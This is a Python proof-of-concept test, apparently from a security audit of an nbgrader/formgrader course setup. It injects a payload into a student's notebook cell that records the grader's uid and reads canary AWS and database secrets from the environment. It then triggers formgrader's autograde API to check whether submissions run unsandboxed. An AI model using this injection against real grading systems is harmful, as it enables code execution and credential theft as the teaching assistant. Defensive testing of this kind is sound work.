"""Lead: Formgrader's own "autograde" action (Manage Submissions, the lightning button; REST
POST /formgrader/api/submission/<assignment>/<student>/autograde) runs nbgrader's AutogradeApp inside the TA's Jupyter
server with the course's nbgrader_config.py, which names no sandboxed kernel (grader.grade passes
--Execute.kernel_name on its own command line). Does a hand-in's code then run unsandboxed, as the TA?
mallory's quiz_q1 cell writes /tmp/attack37-root-a06-PWNED with its uid and the canary from its environment."""
from lib import *
import socket, secrets, signal, urllib.request, nbformat
d = course("a06")
MARK = "/tmp/attack37-root-a06-PWNED"
if os.path.exists(MARK): os.unlink(MARK)
PAY = f'''
import os
try:
    open({MARK!r}, "w").write(f"uid={{os.getuid()}} AWS={{os.environ.get('AWS_SECRET_ACCESS_KEY')}} DB={{os.environ.get('DATABASE_URL')}}\\n")
except OSError as e:
    print("no write", e)
'''
nb = honest()
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1": c.source += "\n" + PAY
put(d, "aaron", honest()); put(d, "mallory", nb); put(d, "zoe", honest())
grade(d); scores(d)
print("after make grade, marker exists:", os.path.exists(MARK))
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
tok = secrets.token_hex(8)
env = dict(os.environ, PYTHONSAFEPATH="1", DISTCOURSE_JUDGE="kernel", PYTHONPATH=CLONE,
           DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
lab = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "lab", f"--notebook-dir={d}", "--allow-root", "--no-browser",
                        f"--port={port}", f"--IdentityProvider.token={tok}", "--ServerApp.ip=127.0.0.1"],
                       cwd=d, env=env, stdout=open("/tmp/attack37-root-a06-lab.log", "w"), stderr=subprocess.STDOUT,
                       start_new_session=True)
try:
    for _ in range(90):
        try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}"); break
        except Exception: time.sleep(1)
    req = urllib.request.Request(f"http://127.0.0.1:{port}/formgrader/api/submission/{A}/mallory/autograde",
                                 data=b"{}", method="POST", headers={"Authorization": f"token {tok}"})
    t = time.time()
    try:
        body = urllib.request.urlopen(req, timeout=600).read()
        print(f"autograde API answered in {time.time()-t:.1f} s:", body[:1500])
    except Exception as e:
        print("autograde API error", e, getattr(e, "read", lambda: b"")()[:1500])
finally:
    os.killpg(lab.pid, signal.SIGTERM)
    try: lab.wait(15)
    except subprocess.TimeoutExpired: os.killpg(lab.pid, signal.SIGKILL); lab.wait()
print("marker:", open(MARK).read() if os.path.exists(MARK) else "absent")
if os.path.exists(MARK): print("marker owner uid:", os.stat(MARK).st_uid)
scores(d)
